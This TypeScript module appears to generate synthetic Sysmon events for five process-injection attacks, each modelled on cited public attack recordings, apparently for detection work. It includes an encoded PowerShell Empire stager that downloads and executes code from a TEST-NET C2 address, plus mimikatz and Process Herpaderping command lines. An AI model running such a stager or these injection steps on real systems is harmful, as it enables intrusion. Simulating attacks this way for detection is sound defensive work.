/**
 * @module Attack scripts: each injected attack, step by step, modelled on one public recording (cited at its
 * builder).
 */
import type { Emitter } from './Emitter';
import type { Rng } from './Rng';
import { CREATE_HEAD, K32, KB, NT, OPEN_HEAD, THREAD_BASE, TRACE, frames, unknownFrame } from './callTraces';
import { DOCS, jitAddress, upperHex } from './hostProfiles';
import type { Proc } from './hostProfiles';
import { DLL, IMG, image } from './imageCatalogue';
import type { ImageMeta } from './imageCatalogue';
import { SHELL_CMD_COMMAND, homeOf, notepadOnDocument, shellCommandLine } from './launches';
import type { Launch } from './launches';
import type { AttackKind, AttackTechnique } from './types';

interface AttackBuild {
    injector: Proc;
    target: Proc;
    technique: AttackTechnique;
    modeledOn: string;
}

interface AttackContext {
    em: Emitter;
    /** The injection starts here. */
    at: number;
    /** Shrinks preparation intervals when the attack sits close to the start of the stream. */
    scale: number;
    /** explorer.exe of this host was already the target of an earlier shellcode-thread attack. */
    explorerTaken: boolean;
}

/** A preparation step `ms` before the injection (scaled down near the start of the stream, never under `minimum`). */
function before(ctx: AttackContext, ms: number, minimum = 1): number {
    return ctx.at - Math.max(minimum, Math.round(ms * ctx.scale));
}

function c2(rng: Rng): string {
    return `203.0.113.${rng.range(10, 250)}`;
}

/** An Empire-style stager command line (the shape of the empire_* recordings' launchers, pointing at a TEST-NET C2). */
function stagerCommandLine(c2Ip: string): string {
    const script = `$wc=New-Object System.Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:11.0) like Gecko');$wc.Proxy=[System.Net.WebRequest]::DefaultWebProxy;IEX $wc.DownloadString('http://${c2Ip}/login/process.php')`;
    return `powershell -noP -sta -w 1 -enc ${Buffer.from(script, 'utf16le').toString('base64')}`;
}

/** The operator's elevated cmd.exe, started from explorer.exe about `ms` before the injection (at least 5 s). */
function elevatedCmd(ctx: AttackContext, ms: number, cwd: string): Proc {
    const { host } = ctx.em;
    return ctx.em.createProcess(before(ctx, ms, 5_000), host.procs.explorer, {
        image: IMG.cmd,
        commandLine: SHELL_CMD_COMMAND,
        role: 'cmd',
        session: host.sessions.admin,
        cwd,
    });
}

/**
 * An attack program (dropper, implant, tool) that `parent` starts at `plannedStart`, though never within a second of
 * the parent's own start (a command is typed only once its console is open); it exits `exitsAfterMs` after the injection.
 */
function runAttackProgram(
    ctx: AttackContext,
    parent: Proc,
    plannedStart: number,
    launch: Pick<Launch, 'image' | 'commandLine' | 'cwd'>,
    exitsAfterMs: number,
): Proc {
    const start = Math.max(parent.startMs + 1_000, plannedStart);
    return ctx.em.createProcess(start, parent, {
        ...launch,
        role: 'attack',
        lifetimeMs: ctx.at - start + exitsAfterMs,
    });
}

/** A version resource whose fields Sysmon could not read: it writes `?` for each. */
const UNREADABLE_VERSION: ImageMeta = { fileVersion: '?', description: '?', product: '?', company: '?' };

/**
 * Process hollowing, after EVTX-ATTACK-SAMPLES `apt10_jjs_sideloading_prochollowing_persist_as_service_sysmon_1_7_8_13`:
 * a side-loading dropper (a genuine jjs.exe with an unsigned jli.dll next to it) starts svchost.exe with no `-k` (or
 * rundll32.exe with no arguments) and starts a thread in it at an address no module backs (StartModule empty), then
 * the hollowed host calls out.
 */
function buildHollowing(ctx: AttackContext): AttackBuild {
    const { em } = ctx;
    const { rng, host } = em;
    const folder = `${homeOf(host)}\\Downloads\\${rng.pick(['info', 'invoice_0424', 'scan_docs', 'po_2291'])}`;
    const dropperImage = image(`${folder}\\jjs.exe`, {
        fileVersion: '8.0.1710.11',
        description: 'Java(TM) Platform SE binary',
        product: 'Java(TM) Platform SE 8',
        company: 'Oracle Corporation',
        originalFileName: 'jjs.exe',
        signature: 'Oracle America, Inc.',
        console: true,
    });
    const jli = image(`${folder}\\jli.dll`, { ...UNREADABLE_VERSION, signed: false });
    const dropper = runAttackProgram(
        ctx,
        host.procs.explorer,
        before(ctx, rng.range(3_000, 20_000), 1_500),
        {
            image: dropperImage,
            commandLine: shellCommandLine(dropperImage.path),
            cwd: `${folder}\\`,
        },
        rng.range(4_000, 20_000),
    );
    em.imageLoad(dropper.startMs + rng.range(100, 140), dropper, jli);
    const svchost = rng.chance(0.6);
    const target = em.createProcess(ctx.at, dropper, {
        image: svchost ? IMG.svchost : IMG.rundll32,
        commandLine: svchost ? 'C:\\Windows\\system32\\svchost.exe' : 'C:\\Windows\\system32\\rundll32.exe',
        role: 'attack',
        cwd: 'C:\\Windows\\system32\\',
        // CreateProcess called from the side-loaded DLL: module-backed, nothing unusual in the stack itself.
        trace: `${CREATE_HEAD}|${frames(jli.path, ['1b2c4', '1a9e0'])}|${frames(dropperImage.path, ['1f21', '1e6d'])}|${THREAD_BASE}`,
    });
    em.thread(target.startMs + rng.range(8, 15), dropper, target, `0x000001${upperHex(rng, 6)}0000`, '-', '-');
    em.network(target.startMs + rng.range(1_000, 4_000), target, {
        ip: c2(rng),
        host: '-',
        port: rng.pick([443, 80, 8080]),
    });
    return {
        injector: dropper,
        target,
        technique: 'T1055.012',
        modeledOn:
            'EVTX-ATTACK-SAMPLES Defense_Evasion/apt10_jjs_sideloading_prochollowing_persist_as_service_sysmon_1_7_8_13',
    };
}

/**
 * Classic DLL injection, after Security-Datasets `empire_dllinjection_LoadLibrary_CreateRemoteThread` (rid 1780488-1780495):
 * an Empire PowerShell agent opens a running notepad.exe with 0x1f3fff from JIT code (CallTrace ntdll, KERNELBASE,
 * then UNKNOWN, no CLR frame), starts a thread at KERNEL32!LoadLibraryA, and notepad.exe loads the unsigned DLL the
 * agent wrote to ProgramData (as in psh_mavinject_dll_notepad); then a query-only open from managed code.
 */
function buildRemoteThreadDll(ctx: AttackContext): AttackBuild {
    const { em } = ctx;
    const { rng, host } = em;
    const home = homeOf(host);
    const notepadStart = before(ctx, rng.range(60_000, 240_000), 6_000);
    const notepad = em.createProcess(
        notepadStart,
        host.procs.explorer,
        notepadOnDocument(home, rng.pick(DOCS), 'attack'),
    );
    const c2Ip = c2(rng);
    const psStart = Math.max(notepadStart + 500, before(ctx, rng.range(15_000, 50_000), 4_000));
    const ps = em.createProcess(psStart, host.procs.explorer, {
        image: IMG.powershell,
        commandLine: stagerCommandLine(c2Ip),
        role: 'attack',
        cwd: `${home}\\`,
        loads: [DLL.mscoree, DLL.clr, DLL.smaNi, DLL.systemNi],
    });
    for (let beacon = ps.startMs + rng.range(1_500, 3_000); beacon < ctx.at - 500; beacon += rng.range(4_000, 6_000)) {
        em.network(beacon, ps, { ip: c2Ip, host: '-', port: 80 });
    }
    const dll = image(`C:\\ProgramData\\${rng.pick(['launcher.dll', 'msupdate.dll', 'wintrust64.dll', 'T1055.dll'])}`, {
        signed: false,
    });
    em.fileCreate(Math.max(ps.startMs + 800, before(ctx, rng.range(2_000, 8_000), 300)), ps, dll.path);
    em.access(
        ctx.at,
        ps,
        notepad,
        '0x1f3fff',
        `${NT}+9c534|${KB}+2726e|${unknownFrame(`00007FFF${upperHex(rng, 8)}`)}`,
    );
    const threadAt = ctx.at + rng.range(12, 24);
    em.thread(threadAt, ps, notepad, host.loadLibraryAddress, 'C:\\Windows\\System32\\KERNEL32.DLL', 'LoadLibraryA');
    em.imageLoad(threadAt + rng.range(0, 3), notepad, dll);
    em.access(
        threadAt + rng.range(10, 16),
        ps,
        notepad,
        '0x1410',
        `${TRACE.managedQuery}|${unknownFrame(jitAddress(rng))}`,
    );
    return {
        injector: ps,
        target: notepad,
        technique: 'T1055.001',
        modeledOn: 'Security-Datasets empire_dllinjection_LoadLibrary_CreateRemoteThread',
    };
}

/**
 * Shellcode injection into a running process, after EVTX-ATTACK-SAMPLES `meterpreter_migrate_to_explorer_sysmon_8`
 * (EID 8 into explorer.exe, StartModule empty) with the handle open of `CA_sysmon_hashdump_cmd_meterpreter` (0x1f1fff,
 * UNKNOWN frames between KERNELBASE and the thread base): an msfvenom-built binary in C:\Users\Public migrates.
 */
function buildShellcodeThread(ctx: AttackContext): AttackBuild {
    const { em } = ctx;
    const { rng, host } = em;
    const name = rng.pick(['m.exe', 'update.exe', 'msupd.exe', 'svch0st.exe']);
    // msfvenom's default template is ApacheBench (ab.exe): its version resource survives in the payload.
    const implantImage = image(`C:\\Users\\Public\\${name}`, {
        fileVersion: '2.2.14',
        description: 'ApacheBench command line utility',
        product: 'Apache HTTP Server',
        company: 'Apache Software Foundation',
        originalFileName: 'ab.exe',
        signed: false,
        console: true,
    });
    const implant = runAttackProgram(
        ctx,
        host.procs.explorer,
        before(ctx, rng.range(10_000, 60_000), 3_000),
        {
            image: implantImage,
            commandLine: shellCommandLine(implantImage.path),
            cwd: 'C:\\Users\\Public\\',
        },
        rng.range(2_000, 8_000),
    );
    const c2Ip = c2(rng);
    em.network(implant.startMs + rng.range(500, 1_500), implant, { ip: c2Ip, host: '-', port: 4444 });
    let target = host.procs.explorer;
    if (ctx.explorerTaken) {
        // explorer.exe of this host is already another attack's target: migrate into a notepad.exe instead.
        target = em.createProcess(
            before(ctx, rng.range(70_000, 200_000), 8_000),
            host.procs.explorer,
            notepadOnDocument(homeOf(host), rng.pick(DOCS), 'attack'),
        );
    }
    const base = `0000${upperHex(rng, 8)}`;
    const unbacked = ['1606', '1F41', '1515', '7486', '73A0', '78A3']
        .map((low) => unknownFrame(`${base}${low}`))
        .join('|');
    em.access(ctx.at, implant, target, '0x1f1fff', `${OPEN_HEAD}|${unbacked}|${THREAD_BASE}`);
    em.thread(ctx.at + rng.range(20, 300), implant, target, `0x${base}0000`, '-', '-');
    em.network(ctx.at + rng.range(1_000, 3_000), target, { ip: c2Ip, host: '-', port: 4444 });
    return {
        injector: implant,
        target,
        technique: 'T1055.002',
        modeledOn:
            'EVTX-ATTACK-SAMPLES Defense_Evasion/meterpreter_migrate_to_explorer_sysmon_8 (+ Credential_Access/CA_sysmon_hashdump_cmd_meterpreter for the EID 10)',
    };
}

/**
 * Process Herpaderping, after Security-Datasets `cmd_process_herpaderping_mimiexplorer` and EVTX-ATTACK-SAMPLES
 * `DE_ProcessHerpaderping_Sysmon_11_10_1_7`: the tool writes an executable, creates the process from an image
 * section (NtCreateProcessEx: the creator access has ntdll then the tool's own frames, no KERNELBASE), overwrites
 * the file and starts the thread. TargetImage of its EID 10 is the bare file name; csrss.exe opens the process only
 * ~100 ms later, from CSRSRV (no CreateProcess registration); the image load of itself is unsigned.
 */
function buildHerpaderping(ctx: AttackContext): AttackBuild {
    const { em } = ctx;
    const { rng, host } = em;
    const desktop = `${homeOf(host)}\\Desktop`;
    const cmd = elevatedCmd(ctx, rng.range(20_000, 90_000), `${desktop}\\`);
    const name = rng.pick(['svc_update.exe', 'report.exe', 'chromeupdate.exe', 'wardog.exe']);
    const toolImage = image(`${desktop}\\ProcessHerpaderping.exe`, {
        fileVersion: '1.0.0.1',
        description: 'Process Herpaderping Tool',
        product: 'Process Herpaderping Tool',
        company: 'Johnny Shaw',
        originalFileName: 'ProcessHerpaderping.exe',
        signed: false,
        console: true,
    });
    const life = rng.range(20_000, 180_000);
    const tool = runAttackProgram(
        ctx,
        cmd,
        before(ctx, rng.range(500, 3_000), 200),
        {
            image: toolImage,
            commandLine: `ProcessHerpaderping.exe  mimikatz.exe ${name} "C:\\Program Files (x86)\\Internet Explorer\\iexplore.exe"`,
            cwd: `${desktop}\\`,
        },
        life + rng.range(100, 400),
    );
    const path = `${desktop}\\${name}`;
    em.fileCreate(ctx.at, tool, path);
    const accessAt = ctx.at + rng.range(55, 70);
    const payload = image(path, { signed: false });
    const target = em.newProcess(
        accessAt + rng.range(2, 4),
        payload,
        `"${name}"`,
        tool.session,
        `${desktop}\\`,
        'attack',
    );
    const toolPath = tool.image.path;
    em.access(
        accessAt,
        tool,
        target,
        '0x1fffff',
        `${NT}+9ca64|${frames(toolPath, ['d5b2c', 'ed9bc', '1593d9', '15927e', '15913e', '159469'])}|${K32}+17c24|${NT}+6cea1`,
        name,
    );
    em.processCreate(target.startMs, target, tool);
    em.imageLoad(target.startMs + rng.range(6, 12), target, payload);
    em.access(target.startMs + rng.range(95, 120), host.procs.csrss, target, '0x1fffff', TRACE.csrssConnect, name);
    em.access(target.startMs + rng.range(300, 400), host.procs.lsass, target, '0x1478', TRACE.lsassToken, name);
    em.end(target, target.startMs + life);
    return {
        injector: tool,
        target,
        technique: 'T1055',
        modeledOn:
            'Security-Datasets cmd_process_herpaderping_mimiexplorer; EVTX-ATTACK-SAMPLES Defense_Evasion/DE_ProcessHerpaderping_Sysmon_11_10_1_7',
    };
}

/**
 * Code injected into a console host, after EVTX-ATTACK-SAMPLES `evasion_codeinj_odzhan_conhost_sysmon_10_1`: a tool
 * in C:\Users\Public injects the conhost.exe of its own console (no event for that step in the recording), and the
 * injected code creates notepad.exe (no arguments). The creator access comes through CreateProcess, but its
 * outermost frame is unbacked memory: ntdll|KERNELBASE|KERNELBASE|KERNELBASE|KERNEL32|UNKNOWN(000002022934003D).
 */
function buildUnbackedCreator(ctx: AttackContext): AttackBuild {
    const { em } = ctx;
    const { rng } = em;
    const cmd = elevatedCmd(ctx, rng.range(30_000, 120_000), 'C:\\Windows\\system32\\');
    const conhost = cmd.console as Proc;
    const folder = 'C:\\Users\\Public\\tools\\evasion';
    const toolImage = image(`${folder}\\chost.exe`, {
        ...UNREADABLE_VERSION,
        originalFileName: '?',
        signed: false,
        console: true,
    });
    runAttackProgram(
        ctx,
        cmd,
        before(ctx, rng.range(30, 2_500), 30),
        { image: toolImage, commandLine: 'chost.exe  payload.bin', cwd: `${folder}\\` },
        rng.range(300, 3_000),
    );
    const target = em.createProcess(ctx.at, conhost, {
        image: IMG.notepad,
        commandLine: 'notepad',
        role: 'attack',
        cwd: 'C:\\Windows\\',
        trace: `${NT}+9d8e4|${KB}+5f36a|${KB}+5c5ca|${KB}+5bd86|${K32}+5e90b|${unknownFrame(`0000${upperHex(rng, 4)}${upperHex(rng, 4)}003D`)}`,
    });
    return {
        injector: conhost,
        target,
        technique: 'T1055.012',
        modeledOn: 'EVTX-ATTACK-SAMPLES Defense_Evasion/evasion_codeinj_odzhan_conhost_sysmon_10_1',
    };
}

export const BUILDERS: Record<AttackKind, (ctx: AttackContext) => AttackBuild> = {
    hollowing: buildHollowing,
    'remote-thread-dll': buildRemoteThreadDll,
    'shellcode-thread': buildShellcodeThread,
    herpaderping: buildHerpaderping,
    'unbacked-creator': buildUnbackedCreator,
};
